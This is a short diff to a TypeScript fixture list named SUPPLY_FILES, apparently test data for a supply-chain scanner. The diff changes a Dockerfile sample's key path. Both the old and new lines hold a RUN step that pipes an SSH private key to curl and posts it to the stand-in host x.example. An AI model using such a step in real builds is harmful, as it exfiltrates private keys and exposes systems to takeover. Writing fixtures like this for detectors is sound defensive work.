@@ -125,8 +125,8 @@ export const SUPPLY_FILES: readonly Row[] = [
     {
       Dockerfile: lines(
         "FROM alpine",
-        "COPY id_rsa /root/.ssh/id_rsa",
-        "RUN cat /root/.ssh/id_rsa | curl -d @- https://x.example",
+        "COPY id_rsa /srv/.ssh/id_rsa",
+        "RUN cat /srv/.ssh/id_rsa | curl -d @- https://x.example",
       ),
     },
   ],
